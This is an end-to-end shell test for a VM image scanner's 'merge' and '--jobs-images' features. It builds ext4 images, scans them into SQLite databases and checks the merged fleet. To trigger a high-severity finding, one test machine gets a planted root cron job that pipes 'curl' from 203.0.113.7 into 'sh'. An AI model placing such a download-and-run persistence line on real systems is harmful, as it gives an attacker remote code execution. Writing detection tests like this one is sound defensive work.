#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# TAP end-to-end test of "vmscan merge" and --jobs-images: five small
# machines (ext4 images made with mke2fs -d from trees built here, a
# Debian-like /etc in each; an IOC list given to every scan, a dpkg
# database in one, a line that is no key in an authorized_keys file for
# an errors row), scanned on the host data path, merged into a fleet
# database, and the fleet checked against what vmscan did not compute:
#
#  - every table of the fleet holds as many rows as the inputs together,
#    its schema and user_version are a scan's;
#  - a file planted in two of the trees: its sha256sum finds exactly
#    those two images (images.sha256 = sha256sum of the image file),
#    through a join and through the fleet_files view; the SSH key of one
#    tree (its fingerprint from ssh-keygen -l) and the cron job of
#    another find exactly their image;
#  - merging again adds nothing; a fleet merged into a new one and two
#    half fleets merged together hold the same rows as the fleet
#    (fleet-compare.py: every table, ids left out, references replaced
#    by what they point at);
#  - PRAGMA foreign_key_check finds nothing, and every file, finding and
#    match points at a row of its own scan; each scan's files in the
#    fleet are its input's, by path bytes and sha256;
#  - a name with a newline, a quote and a byte that is not UTF-8 has the
#    same hex(path) in the fleet as printf gives;
#  - the tables only --suppress, --baseline and vmscan baseline accept
#    fill, given rows by hand in two copies of a scan's database: their
#    rows all come along (the approvals, the same in both, once), each
#    suppressed finding points at its own scan's suppression;
#  - errors: an input of schema 6, one that is not a database, the
#    output itself (by name and by a symbolic link), a missing one:
#    exit 2, the output unchanged (sha256sum) or not created; the inputs
#    never change; vmscan report and diff refuse a fleet database;
#  - --jobs-images 2 over the five images gives a fleet equal to the
#    merge of the five scans made one by one, but for the columns that
#    name the run (the scans' uuid, start and end times and command
#    line, errors.at); exit 1 with --fail-on high (one image has a
#    finding at high), 0 with --fail-on critical, one line on stderr per
#    image; a missing image among them: exit 2, named on stderr, the five
#    others scanned and merged; an existing fleet needs --force; SIGTERM
#    reaches the running scans, which record it before vmscan exits 2;
#    an appliance memory (LIBGUESTFS_MEMSIZE) too large for two scans
#    makes them run one at a time, said once, but not on the host path.
#
# No root needed (nothing depends on the trees' owners).  Needs mke2fs,
# sqlite3, sha256sum, ssh-keygen, od and python3.
set -u

. "$(dirname "$0")/../lib.sh"
LC_ALL=C
export LC_ALL

require_vmscan
require_cmd mke2fs sqlite3 sha256sum ssh-keygen python3 od
setup_work
cd "$work" || bail_out "cannot enter $work"

# ---- the machines -----------------------------------------------------------

shared="fleet: the same bytes in two machines $$"
hostile=$(printf 'evil\nname'"'"'q\377')
tree () {
  t=$1
  mkdir -p "$t/etc/cron.d" "$t/root" "$t/srv" "$t/usr/bin" "$t/home/alice"
  printf '%s\n' 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"' \
    'NAME="Debian GNU/Linux"' 'VERSION_ID="12"' 'ID=debian' > "$t/etc/os-release"
  echo 12.5 > "$t/etc/debian_version"
  echo "$t" > "$t/etc/hostname"
  printf 'root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n' \
    > "$t/etc/passwd"
  printf 'a file of %s\n' "$t" > "$t/srv/own.txt"
}
for m in m1 m2 m3 m4 m5; do tree "$m"; done
# m1: the shared file, an SSH key, the hostile name.
printf '%s\n' "$shared" > m1/srv/shared.bin
ssh-keygen -q -t ed25519 -N '' -C "alice@m1" -f key > /dev/null \
  || bail_out "ssh-keygen failed"
mkdir -p m1/home/alice/.ssh
{ cat key.pub; echo 'this line is not a key'; } > m1/home/alice/.ssh/authorized_keys
printf 'x\n' > "m1/srv/$hostile"
# m2: a cron job that downloads and runs (high).
echo '*/5 * * * * root curl -s http://203.0.113.7/u.sh | sh' \
  > m2/etc/cron.d/update
# m3: the shared file again, elsewhere.
mkdir -p m3/opt
printf '%s\n' "$shared" > m3/opt/copy.bin
# m5: a dpkg database of one package.
mkdir -p m5/var/lib/dpkg
cat > m5/var/lib/dpkg/status <<'EOF'
Package: fleet-demo
Status: install ok installed
Architecture: all
Version: 1.0-1

EOF
# Every scan is given an IOC list (an ioc_files row each) that matches
# nothing, so that m2's cron job stays the one finding at high.
printf 'sha256:%s nothing here\npath:/nowhere/*\n' \
  "$(printf 'in no machine' | sha256sum | cut -d' ' -f1)" > fleet.ioc

for m in m1 m2 m3 m4 m5; do
  truncate -s 16M "$m.raw" && mke2fs -q -F -t ext4 -d "$m" "$m.raw" \
    || bail_out "mke2fs of $m failed"
done
img_sha () { sha256sum "$1.raw" | cut -d' ' -f1; }

# ---- one by one ---------------------------------------------------------------

scan () {
  "$VMSCAN" -q --no-progress --data-path host --fail-on high \
    --ioc fleet.ioc -o "$1.db" "$1.raw" > "scan-$1.out" 2> "scan-$1.err"
}
codes=
for m in m1 m2 m3 m4 m5; do
  scan "$m"
  codes="$codes$?"
done
[ -f m5.db ] || { diag < scan-m5.err; bail_out "the scans wrote no database"; }
tables=$(sqlite3 m1.db "SELECT name FROM sqlite_master WHERE type = 'table'
                        ORDER BY name")
sum_in=$(sha256sum m1.db m2.db m3.db m4.db m5.db)

is "$codes" "01000" "one by one, --fail-on high: exit 1 for m2 alone (its cron job)"

"$VMSCAN" merge fleet.db m1.db m2.db m3.db m4.db m5.db > merge1.out 2> merge1.err
is "$?" 0 "merge of five scans: exit 0"
is "$(grep -c ': merged$' merge1.out)" 5 "five scans said merged"

for t in $tables; do
  want=0
  for m in m1 m2 m3 m4 m5; do
    want=$((want + $(sqlite3 "$m.db" "SELECT count (*) FROM \"$t\"")))
  done
  is "$(sqlite3 fleet.db "SELECT count (*) FROM \"$t\"")" "$want" \
    "$t: as many rows as the five inputs together ($want)"
done
is "$(sqlite3 fleet.db 'PRAGMA user_version')" \
   "$(sqlite3 m1.db 'PRAGMA user_version')" "the fleet's schema version is a scan's"
is "$(sqlite3 fleet.db "SELECT sql FROM sqlite_master WHERE type = 'table'
                        ORDER BY name")" \
   "$(sqlite3 m1.db "SELECT sql FROM sqlite_master WHERE type = 'table'
                     ORDER BY name")" \
   "the fleet's tables are a scan's, column for column"

# ---- fleet queries -------------------------------------------------------------

shared_sha=$(sha256sum m1/srv/shared.bin | cut -d' ' -f1)
want2=$(printf '%s\n%s\n' "$(img_sha m1)" "$(img_sha m3)" | sort)
is "$(sqlite3 fleet.db "SELECT DISTINCT i.sha256 FROM files f
                        JOIN images i ON i.scan_id = f.scan_id
                        WHERE f.sha256 = '$shared_sha' ORDER BY 1")" "$want2" \
   "the shared file's sha256sum: exactly the images of m1 and m3"
is "$(sqlite3 fleet.db "SELECT DISTINCT image_sha256 FROM fleet_files
                        WHERE sha256 = '$shared_sha' ORDER BY 1")" "$want2" \
   "the same through the fleet_files view"
is "$(sqlite3 fleet.db "SELECT image_path || ' ' || path FROM fleet_files
                        WHERE sha256 = '$shared_sha' ORDER BY 1")" \
   "$(printf 'm1.raw /srv/shared.bin\nm3.raw /opt/copy.bin')" \
   "fleet_files gives each image's path and the file's"

fp=$(ssh-keygen -l -f key.pub | cut -d' ' -f2)
is "$(sqlite3 fleet.db "SELECT DISTINCT image_sha256 FROM fleet_findings
                        WHERE check_id = 'access.authorized-keys'
                        AND instr (evidence, '$fp') > 0")" "$(img_sha m1)" \
   "the SSH key's fingerprint (ssh-keygen -l): exactly m1's image"
is "$(sqlite3 fleet.db "SELECT DISTINCT image_sha256 FROM fleet_findings
                        WHERE check_id = 'persistence.cron'
                        AND path = '/etc/cron.d/update'")" "$(img_sha m2)" \
   "the cron job's finding: exactly m2's image"
cron_fp=$(sqlite3 m2.db "SELECT fingerprint FROM findings
                         WHERE check_id = 'persistence.cron'")
is "$(sqlite3 fleet.db "SELECT DISTINCT i.sha256 FROM findings f
                        JOIN images i ON i.scan_id = f.scan_id
                        WHERE f.fingerprint = '$cron_fp'")" "$(img_sha m2)" \
   "its fingerprint: exactly m2's image"

# ---- references ----------------------------------------------------------------

is "$(sqlite3 fleet.db 'PRAGMA foreign_key_check' | wc -l)" 0 \
   "PRAGMA foreign_key_check: nothing"
is "$(sqlite3 fleet.db "SELECT count (*) FROM files f
                        LEFT JOIN filesystems s ON s.id = f.fs_id
                        WHERE s.id IS NULL OR s.scan_id <> f.scan_id")" 0 \
   "every file's filesystem is of its own scan"
is "$(sqlite3 fleet.db "SELECT count (*) FROM findings f
                        LEFT JOIN files x ON x.id = f.file_id
                        LEFT JOIN yara_matches y ON y.id = f.match_id
                        LEFT JOIN operating_systems o ON o.id = f.os_id
                        WHERE (f.file_id IS NOT NULL
                               AND (x.id IS NULL OR x.scan_id <> f.scan_id))
                        OR (f.match_id IS NOT NULL
                            AND (y.id IS NULL OR y.scan_id <> f.scan_id))
                        OR (f.os_id IS NOT NULL
                            AND (o.id IS NULL OR o.scan_id <> f.scan_id))")" 0 \
   "every finding's file, match and OS are of its own scan"
is "$(sqlite3 fleet.db "SELECT count (*) FROM yara_strings s
                        LEFT JOIN yara_matches y ON y.id = s.match_id
                        LEFT JOIN files f ON f.id = y.file_id
                        WHERE y.id IS NULL OR f.scan_id <> y.scan_id")" 0 \
   "every YARA string's match, and its file, are of one scan"
[ "$(sqlite3 fleet.db 'SELECT count (*) FROM yara_strings')" -gt 0 ] \
  || diag "no YARA string in the fleet: the check above had nothing to check"
bad=
for m in m1 m2 m3 m4 m5; do
  uuid=$(sqlite3 "$m.db" 'SELECT uuid FROM scans')
  a=$(sqlite3 "$m.db" "SELECT hex (path), sha256 FROM files ORDER BY 1, 2")
  b=$(sqlite3 fleet.db "SELECT hex (f.path), f.sha256 FROM files f
                        JOIN scans s ON s.id = f.scan_id
                        WHERE s.uuid = '$uuid' ORDER BY 1, 2")
  [ "$a" = "$b" ] || bad="$bad $m"
done
is "$bad" "" "each scan's files in the fleet are its input's (path bytes, sha256)"

want_hex=$(printf '/srv/%s' "$hostile" | od -An -tx1 | tr -d ' \n' \
           | tr a-f A-F)
is "$(sqlite3 fleet.db "SELECT hex (path) FROM files
                        WHERE hex (path) = '$want_hex'")" "$want_hex" \
   "the hostile name is in the fleet byte for byte (printf's hex)"
is "$(sqlite3 m1.db "SELECT count (*) FROM files
                     WHERE hex (path) = '$want_hex'")" 1 \
   "and in its input, once"

# ---- merging again -------------------------------------------------------------

counts () {
  for t in $tables; do
    printf '%s %s\n' "$t" "$(sqlite3 "$1" "SELECT count (*) FROM \"$t\"")"
  done
}
counts fleet.db > counts-1.txt
"$VMSCAN" merge fleet.db m1.db m2.db m3.db m4.db m5.db > merge2.out 2> merge2.err
is "$?" 0 "merging the same five again: exit 0"
is "$(grep -c ': already merged$' merge2.out)" 5 "five scans said already merged"
counts fleet.db > counts-2.txt
cmp -s counts-1.txt counts-2.txt
ok $? "every table's count is unchanged"
"$VMSCAN" merge fleet.db m3.db m3.db > merge3.out 2>&1
is "$?:$(counts fleet.db | cmp -s - counts-1.txt && echo same)" "0:same" \
   "an input given twice adds nothing either"

"$VMSCAN" merge -q fleet2.db fleet.db > merge4.out 2>&1
is "$?:$(cat merge4.out)" "0:" "a fleet merged into a new fleet, -q: exit 0, silent"
run_tap python3 "$here/fleet-compare.py" fleet.db fleet2.db
"$VMSCAN" merge half1.db m1.db m2.db > /dev/null 2>&1 \
  && "$VMSCAN" merge half2.db m5.db m4.db m3.db > /dev/null 2>&1 \
  && "$VMSCAN" merge joined.db half2.db half1.db > /dev/null 2>&1
is "$?" 0 "two half fleets merged into a third"
run_tap python3 "$here/fleet-compare.py" fleet.db joined.db
"$VMSCAN" merge joined.db m1.db fleet.db > /dev/null 2>&1
is "$?:$(counts joined.db | cmp -s - counts-1.txt && echo same)" "0:same" \
   "merging a scan and the fleet into it again adds nothing"

# ---- the tables of --baseline and --suppress ----------------------------------
#
# No scan here fills suppressions, baselines, baseline_absent and
# approvals (--suppress, --baseline and vmscan baseline accept do), so a
# copy of m1's database is given rows in each, with ids of their own,
# a finding pointing at its suppression, and the uuid of another scan;
# syn2.db is the same again with a third uuid: its approvals are the
# same rows, which a fleet keeps once.
h64=$(printf x | sha256sum | cut -d' ' -f1)
cp m1.db syn.db
sqlite3 syn.db <<EOF || bail_out "cannot make syn.db"
UPDATE scans SET uuid = 'c0ffee00-0000-4000-8000-000000000001';
INSERT INTO suppressions (id, scan_id, file, line, check_id, account, reason,
  expires, ticket, status, matched)
  SELECT 7, id, 'fleet.suppress', 3, 'access.*', 'alice', 'a known key',
  '2099-12-31', 'T-1', 'applied', 1 FROM scans;
UPDATE findings SET suppression_id = 7
  WHERE check_id = 'access.authorized-keys';
INSERT INTO baselines (id, scan_id, path, sha256, scan_uuid, started_at,
  approved_by, approved_at, reason, findings_new, findings_unchanged,
  findings_absent)
  SELECT 4, id, 'golden.db', '$h64', 'c0ffee00-0000-4000-8000-000000000002',
  '2026-01-01T00:00:00Z', 'ops', '2026-01-02T00:00:00Z', 'golden', 0, 1, 1
  FROM scans;
INSERT INTO baseline_absent (id, scan_id, check_id, severity, severity_rank,
  category, title, path, account, fingerprint)
  SELECT 9, id, 'persistence.cron', 'high', 3, 'persistence', 'gone',
  '/etc/cron.d/old', 'root', '$h64' FROM scans;
INSERT INTO approvals (id, scan_uuid, approved_by, approved_at, reason,
  source_path, source_sha256) VALUES
  (3, 'c0ffee00-0000-4000-8000-000000000002', 'ops', '2026-01-02T00:00:00Z',
   'golden', 'golden.db', '$h64'),
  (5, 'c0ffee00-0000-4000-8000-000000000001', 'ops', '2026-01-03T00:00:00Z',
   'accepted', 'syn.db', '$h64');
EOF
cp syn.db syn2.db
sqlite3 syn2.db "UPDATE scans SET uuid = 'c0ffee00-0000-4000-8000-000000000003'"
"$VMSCAN" merge synfleet.db fleet.db syn.db syn2.db > syn.out 2> syn.err
is "$?" 0 "the fleet and the two synthetic scans merged"
for t in $tables; do
  want=0
  for d in fleet syn syn2; do
    [ "$t/$d" = approvals/syn2 ] && continue
    want=$((want + $(sqlite3 "$d.db" "SELECT count (*) FROM \"$t\"")))
  done
  note=
  [ "$t" = approvals ] && note=", syn2's being syn's"
  is "$(sqlite3 synfleet.db "SELECT count (*) FROM \"$t\"")" "$want" \
    "$t: the fleet's, syn's and syn2's rows together ($want$note)"
done
is "$(sqlite3 synfleet.db "SELECT count (*) FROM findings f
                           JOIN suppressions s ON s.id = f.suppression_id
                           WHERE s.scan_id = f.scan_id
                           AND s.reason = 'a known key'")" 2 \
   "each suppressed finding points at its own scan's suppression"
is "$(sqlite3 synfleet.db 'SELECT count (*) FROM findings
                           WHERE suppression_id IS NOT NULL')" 2 \
   "and only those two findings are suppressed"
is "$(sqlite3 synfleet.db 'PRAGMA foreign_key_check' | wc -l)" 0 \
   "PRAGMA foreign_key_check: nothing"
counts synfleet.db > counts-syn.txt
"$VMSCAN" merge synfleet.db syn2.db syn.db m2.db > /dev/null 2>&1
is "$?:$(counts synfleet.db | cmp -s - counts-syn.txt && echo same)" "0:same" \
   "merging them again adds nothing, approvals included"

# ---- errors ----------------------------------------------------------------------

cp m4.db old.db && sqlite3 old.db 'PRAGMA user_version = 6'
printf 'not a database, only text\n' > junk.db
ln -s fleet.db link.db
before=$(sha256sum fleet.db)
err_case () {
  what=$1
  shift
  "$VMSCAN" merge fleet.db m5.db "$@" > err.out 2> err.err
  rc=$?
  is "$rc:$([ "$(sha256sum fleet.db)" = "$before" ] && echo same)" "2:same" \
     "$what: exit 2, the output unchanged"
  [ "$rc" = 2 ] || diag < err.err
}
err_case "an input of schema 6" old.db
grep -q 'old.db: .*schema version 6' err.err
ok $? "the message names the file and its schema version"
err_case "an input that is not a database" junk.db
grep -q 'junk.db: not a vmscan evidence database' err.err
ok $? "the message names the file"
err_case "the output as an input" fleet.db
err_case "the output as an input, through a symbolic link" link.db
grep -q 'link.db: is the output database' err.err
ok $? "the message says so"
err_case "a missing input" nosuch.db
grep -q 'nosuch.db: No such file' err.err
ok $? "the message names it"
"$VMSCAN" merge new.db m1.db junk.db > err.out 2>&1
is "$?:$(ls new.db* 2> /dev/null)" "2:" "a new output with a bad input: exit 2, not created"
"$VMSCAN" merge fleet.db > err.out 2>&1
is "$?" 2 "no input: exit 2"
is "$(sha256sum m1.db m2.db m3.db m4.db m5.db)" "$sum_in" \
   "the inputs never changed"

"$VMSCAN" report fleet.db > rep.out 2> rep.err
is "$?" 2 "vmscan report refuses a fleet database"
grep -q 'holds 5 scans' rep.err
ok $? "and says how many scans it holds"
"$VMSCAN" diff m1.db fleet.db > rep.out 2> rep.err
is "$?" 2 "vmscan diff refuses one too"

# ---- --jobs-images -------------------------------------------------------------

run_ignore=scans.uuid,scans.started_at,scans.finished_at,scans.command_line,errors.at
"$VMSCAN" --jobs-images 2 -q --data-path host --fail-on high \
  --ioc fleet.ioc -o jobs.db \
  m1.raw m2.raw m3.raw m4.raw m5.raw > jobs.out 2> jobs.err
rc=$?
is "$rc" 1 "--jobs-images 2, --fail-on high: exit 1 (m2's cron job)"
[ "$rc" -le 1 ] || diag < jobs.err
is "$(ls jobs.d | tr '\n' ' ')" \
   "001-m1.raw.db 002-m2.raw.db 003-m3.raw.db 004-m4.raw.db 005-m5.raw.db " \
   "one database per image in jobs.d"
is "$(sqlite3 jobs.db "SELECT status, count (*) FROM scans GROUP BY 1")" \
   "complete|5" "the fleet holds five complete scans"
run_tap python3 "$here/fleet-compare.py" --ignore "$run_ignore" fleet.db jobs.db
is "$(sqlite3 jobs.d/003-m3.raw.db 'SELECT command_line FROM scans')" \
   "$VMSCAN --quiet --data-path=host --fail-on=high --ioc=fleet.ioc --no-progress --output=jobs.d/003-m3.raw.db -- m3.raw" \
   "a child's command line: the options in long form, its own --output"

"$VMSCAN" --jobs-images 3 --data-path host --fail-on high -o jobs.db \
  m1.raw m2.raw > again.out 2> again.err
is "$?" 2 "the fleet database exists, no --force: exit 2"
"$VMSCAN" --jobs-images 3 --data-path host --fail-on critical --force \
  --ioc fleet.ioc \
  -o jobs.db m1.raw m2.raw m3.raw m4.raw m5.raw > crit.out 2> crit.err
is "$?" 0 "--force, --fail-on critical: exit 0, the fleet replaced"
is "$(grep -c '^vmscan: \[[1-5]/5\] m[1-5].raw: scanned' crit.err)" 5 \
   "one line on stderr per image scanned"
run_tap python3 "$here/fleet-compare.py" \
  --ignore "$run_ignore,scans.fail_on" fleet.db jobs.db

"$VMSCAN" --jobs-images 2 -q --data-path host --ioc fleet.ioc -o miss.db \
  m1.raw m2.raw nosuch.raw m3.raw m4.raw m5.raw > miss.out 2> miss.err
is "$?" 2 "a missing image among six: exit 2"
grep -q 'error: \[[1-6]/6\] nosuch.raw: scan failed' miss.err
ok $? "stderr names the missing image"
is "$(sqlite3 miss.db "SELECT count (*) FROM scans WHERE status = 'complete'")" 5 \
   "the five others were scanned and merged"
is "$(sqlite3 miss.d/003-nosuch.raw.db 'SELECT status FROM scans')" failed \
   "the missing image's own database says failed"
# SIGTERM while two scans are held in a check (the test hook): sent on
# to both, no third started, both record themselves as interrupted
# before vmscan exits, nothing merged.
VMSCAN_TEST_HOOK="stall:check persistence" VMSCAN_STALL_TIMEOUT=300 \
  "$VMSCAN" --jobs-images 2 --data-path host -o sig.db \
  m1.raw m2.raw m3.raw m4.raw > sig.out 2> sig.err &
pid=$!
k=0
while [ "$(grep -c "test hook: in stage" sig.err)" -lt 2 ] && [ $k -lt 1200 ]; do
  sleep 0.1
  k=$((k + 1))
done
[ $k -lt 1200 ] || { diag "the two scans did not reach the hook in 120 s:"
                     diag < sig.err; ps -ef | grep -c '[v]mscan' | diag; }
kill -TERM "$pid"
wait "$pid"
rc=$?
is "$rc" 2 "SIGTERM with two scans held: exit 2"
is "$(ls sig.d | tr '\n' ' ')" "001-m1.raw.db 002-m2.raw.db " \
   "no third scan was started"
is "$(sqlite3 sig.d/001-m1.raw.db 'SELECT status FROM scans')/$(sqlite3 \
      sig.d/002-m2.raw.db 'SELECT status FROM scans')" \
   "interrupted/interrupted" \
   "both scans got the signal and recorded it before vmscan exited"
is "$(ls sig.db 2> /dev/null)" "" "nothing merged"
grep -q 'error: interrupted: 0 of 4 images scanned' sig.err
ok $? "stderr says so"

# The memory bound: an appliance of 10^9 MiB does not fit twice (the
# ext4 images need no appliance, but auto may launch one); the host
# data path does not count it.
LIBGUESTFS_MEMSIZE=1000000000 "$VMSCAN" --jobs-images 2 -o mem.db \
  m4.raw m5.raw > mem.out 2> mem.err
is "$?:$(grep -c 'warning: --jobs-images 2: .* MiB a scan .*: 1 at once' mem.err)" \
   "0:1" "an appliance too large for two: one at a time, said once"
LIBGUESTFS_MEMSIZE=1000000000 "$VMSCAN" --jobs-images 2 --data-path host \
  -o memh.db m4.raw m5.raw > memh.out 2> memh.err
is "$?:$(grep -c 'at once' memh.err)" "0:0" \
   "with --data-path host the appliance is not counted"

"$VMSCAN" --jobs-images 2 m1.raw > noout.out 2> noout.err
is "$?" 2 "--jobs-images without -o: exit 2"
"$VMSCAN" --jobs-images 0 -o x.db m1.raw > zero.out 2> zero.err
is "$?" 2 "--jobs-images 0: exit 2"

test_done
